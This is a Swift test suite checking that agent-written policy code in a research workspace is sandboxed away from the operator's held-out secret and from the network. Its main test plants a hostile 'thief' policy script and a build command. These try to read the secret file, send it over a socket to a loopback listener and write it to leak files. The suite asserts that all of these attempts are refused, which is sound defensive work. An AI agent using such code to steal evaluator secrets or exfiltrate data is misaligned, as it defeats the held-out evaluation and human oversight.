import Enpire
@testable import EnpireResearch
import EnpireTasks
import EnpireTesting
import Foundation
import Testing

/// Policy code of a code workspace is the agent's code, run by the runner: it must not reach the operator folder
/// (the held-out secret) or the network (issues 17 and 20).
@Suite("Code workspaces: the policy code runs in the sandbox")
struct PolicySandboxTests {
    /// bubblewrap can create namespaces here and `python3` runs (the template's interpreter).
    static var canSandbox: Bool { AgentSandbox.probe() == nil && CodeWorkspaceTests.hasPython }

    /// A TCP listener on 127.0.0.1 of the host's network namespace; `connected` tells whether anyone connected.
    final class Listener {
        let descriptor: Int32
        let port: UInt16

        init() throws {
            (descriptor, port) = try LoopbackSocket.bind(listening: 8)
            _ = fcntl(descriptor, F_SETFL, O_NONBLOCK)
        }

        /// Whether a connection is waiting (the kernel completes it without `accept`).
        var connected: Bool {
            let client = accept(descriptor, nil, nil)
            if client >= 0 { close(client) }
            return client >= 0
        }

        deinit { close(descriptor) }
    }

    /// Every regular file under `folder` (recursively, `.git` included) that contains `needle`.
    static func files(under folder: URL, containing needle: String) -> [String] {
        guard let walker = FileManager.default.enumerator(at: folder, includingPropertiesForKeys: nil) else { return [] }
        return walker.compactMap { $0 as? URL }.filter { url in
            guard let data = try? Data(contentsOf: url) else { return false }
            return String(decoding: data, as: UTF8.self).contains(needle)
        }.map(\.path)
    }

    @Test("ENPIRE_HEAVY: overhead of the sandbox on a trial's build and start (the Push-T Python template)",
          .enabled(if: ProcessInfo.processInfo.environment["ENPIRE_HEAVY"] == "1" && canSandbox))
    func overhead() async throws {
        let outer = try CodeWorkspaceTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: outer) }
        var workspace = try await CodeWorkspaceTests.workspace(outer, station: "station-a", task: PushTResearchTask(),
                                                               fleet: nil, episodes: 1)
        let tree = try #require(try workspace.policyWorkTree())
        let task = try workspace.task()
        var figures: [String: (build: [Double], total: [Double])] = [:]
        for round in 0..<8 {
            for isolation in [PolicyIsolation.unsandboxed, .sandboxed] {
                workspace.policyIsolation = isolation
                // A fresh compile each time, as after an edit.
                try? FileManager.default.removeItem(at: tree.folder.appendingPathComponent("__pycache__"))
                let start = Date()
                let launchers = try workspace.policyLaunchers(workTree: tree, heldOut: false)
                let started = try workspace.startCodePolicy(
                    workTree: tree, task: task, log: outer.appendingPathComponent("overhead-\(round).stderr"),
                    launchers: launchers)
                let total = Date().timeIntervalSince(start)
                started.policy.finish()
                let name = isolation == .unsandboxed ? "unsandboxed" : "sandboxed"
                figures[name, default: ([], [])].build.append(started.buildSeconds)
                figures[name, default: ([], [])].total.append(total)
            }
        }
        func median(_ values: [Double]) -> Double { values.sorted()[values.count / 2] }
        for (name, values) in figures.sorted(by: { $0.key < $1.key }) {
            print("policy \(name): build median \(String(format: "%.3f", median(values.build))) s, build + start "
                  + "median \(String(format: "%.3f", median(values.total))) s (min \(String(format: "%.3f", values.total.min() ?? 0)), "
                  + "max \(String(format: "%.3f", values.total.max() ?? 0)), \(values.total.count) runs)")
        }
        #expect(figures.count == 2)
    }

    @Test("a policy that reads the operator folder and opens a socket gets neither; nothing of the secret is recorded",
          .enabled(if: canSandbox))
    func policyCannotLeakTheSecret() async throws {
        let outer = try CodeWorkspaceTests.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: outer) }
        let registry = TaskRegistry()
        BuiltInTasks.register(in: registry)
        let workspace = ResearchWorkspace(folder: outer.appendingPathComponent("station-a"), registry: registry)
        _ = try await workspace.initialise(task: PushTResearchTask(), station: "station-a", fleet: nil,
                                           episodesPerTrial: 1, heldOut: 2, code: true)
        let operatorState = workspace.operatorFolder.appendingPathComponent("operator.json")
        let state = try JSONSerialization.jsonObject(with: Data(contentsOf: operatorState)) as? [String: Any]
        let secret = try #require(state?["heldOutSecret"] as? String)
        let listener = try Listener()
        let tree = try #require(try workspace.policyWorkTree()).folder

        // The build command tries too: it copies the operator state into the work tree, then compiles.
        let build = "cat \(operatorState.path) > build-leak.txt 2>&1; python3 -m py_compile policy.py"
        let manifest = ["build": ["sh", "-c", build], "run": ["python3", "-u", "policy.py"]]
        try JSONSerialization.data(withJSONObject: manifest).write(to: tree.appendingPathComponent(PolicyManifest.fileName))
        let thief = """
            import json, socket, sys
            leaked = ""
            try:
                leaked = open(\(String(reflecting: operatorState.path))).read()
            except Exception as error:
                sys.stderr.write("read refused: %r\\n" % error)
            network = "no network"
            try:
                connection = socket.create_connection(("127.0.0.1", \(listener.port)), timeout=2)
                connection.sendall(("leak " + leaked).encode())
                network = "network reached"
            except Exception as error:
                sys.stderr.write("network refused: %r\\n" % error)
            sys.stderr.write("LEAK:" + leaked + "\\n")
            try:
                open("run-leak.txt", "w").write(leaked)
            except Exception as error:
                sys.stderr.write("write refused: %r\\n" % error)
            for line in sys.stdin:
                message = json.loads(line)
                if message["type"] == "hello":
                    print(json.dumps({"type": "ready", "name": "thief"}), flush=True)
                elif message["type"] == "observation":
                    print(json.dumps({"error": "LEAK:" + network + ":" + leaked[:2000]}), flush=True)
            """
        try Data(thief.utf8).write(to: tree.appendingPathComponent("policy.py"))

        let trial = try await workspace.runTrial(recipe: [:], hypothesis: "steal the held-out secret")
        let reason = try await workspace.trialEvidence(trial.id).summaries.first?.reason ?? ""
        // The policy ran (its answer is the episode's reason) and was refused the file and the network.
        #expect(reason.contains("LEAK:no network:"), "\(reason)")
        let log = try String(contentsOf: workspace.folder.appendingPathComponent("code-logs/\(trial.id).stderr"),
                             encoding: .utf8)
        #expect(log.contains("read refused") && log.contains("network refused"), "\(log)")
        #expect(!listener.connected, "the policy reached a socket of the host's network")
        // Nothing of the secret anywhere the agent or the records can see: workspace (work tree, logs, ledger),
        // the trial's evidence and the pending trial in the operator folder.
        #expect(!reason.contains(secret))
        for folder in [workspace.folder, workspace.operatorFolder.appendingPathComponent("trials"),
                       workspace.operatorFolder.appendingPathComponent("pending")] {
            #expect(Self.files(under: folder, containing: secret).isEmpty)
            #expect(Self.files(under: folder, containing: "heldOutSecret").isEmpty)
        }
    }
}
